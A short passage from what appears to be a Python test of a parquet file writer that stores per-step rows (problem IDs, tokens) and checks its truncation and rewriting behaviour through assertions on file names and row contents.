    assert sorted(path.name for path in newest.paths()) == ["step-00007.parquet", "steps-00004-00006.parquet"]
    files.truncate(5)
    assert not (tmp_path / "step-00007.parquet").exists()
    for step in (6, 7):
        files.write(step, [{"problem_id": f"again{step}", "tokens": [step], "strict": None}])
    rows = [row for path in sorted(tmp_path.glob("steps*")) for row in read_table(path)]
    assert [(row["step"], row["problem_id"]) for row in rows] == [
        *((step, f"p{step}") for step in range(1, 6)),
        (6, "again6"),
    ]
